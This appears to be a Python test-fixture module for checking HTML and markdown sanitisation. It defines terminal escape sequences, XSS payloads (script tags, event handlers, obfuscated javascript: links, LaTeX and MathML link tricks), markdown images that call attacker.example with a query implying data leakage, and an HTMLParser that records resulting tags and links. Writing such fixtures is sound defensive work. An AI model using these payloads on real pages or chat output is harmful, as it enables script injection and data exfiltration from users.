"""Text that wants to be more than text, and a look at what a page makes of it."""

from __future__ import annotations

from html.parser import HTMLParser

__all__ = ["ANSI", "HOSTILE", "MARKDOWN", "Page"]

ANSI = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b1mbold\u202egnikcatta\x07"
"""Clears a terminal, names its window, paints it, rings, and turns what follows round."""

HOSTILE = (
    "<script>attack()</script><img src=x onerror=attack()>"
    "</pre></td></table><a href='javascript:attack()'>$\\href{javascript:attack()}{x}$</a>"
)
"""HTML that runs programs, and a formula with a link."""

MARKDOWN = [
    "<script>attack()</script>",
    "<img src=x onerror=attack()>",
    "text <b onmouseover=attack()>bold</b> <!-- a comment --> <?attack?> <![CDATA[attack]]>",
    "<svg/onload=attack()>",
    "</div><iframe src=javascript:attack()></iframe>",
    "$$\n```\n$$\n<img src=x onerror=attack()>\n```",
    '[foo]: /url "\n```\n"\n<img src=x onerror=attack()>\n\n[foo]',
    "```html\n<script>attack()</script>\n```\n<script>attack()</script>",
    "`<script>attack()</script>",
    "    <script>attack()</script>",
    "[click](javascript:attack())",
    "[click](JaVaScRiPt\\:attack())",
    "[click](java&#115;cript:attack())",
    "[click](javascript&colon;attack())",
    "[click][1]\n\n[1]: javascript:attack()",
    "<javascript:attack()>",
    "![picture](https://attacker.example/?told=all)",
    "![picture][1]\n\n[1]: https://attacker.example/?told=all",
    "[![picture](https://attacker.example/?told=all)](https://attacker.example)",
    "$\\href{javascript:attack()}{x}$ and \\(\\mmlToken{mi}[href=javascript:attack()]{x}\\)",
    "\\<script>attack()</script>",
    "&lt;script&gt;attack()&lt;/script&gt;",
    "<\x00script>attack()</script>\x1b[31m",
]
"""Markdown that runs programs, loads pictures, or has a link that runs a program."""


class Page(HTMLParser):
    """What a browser would find in HTML.

    Attributes:
        tags: Names of the elements.
        attributes: Names of their attributes.
        links: Where links and pictures lead.
        text: What is shown.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data
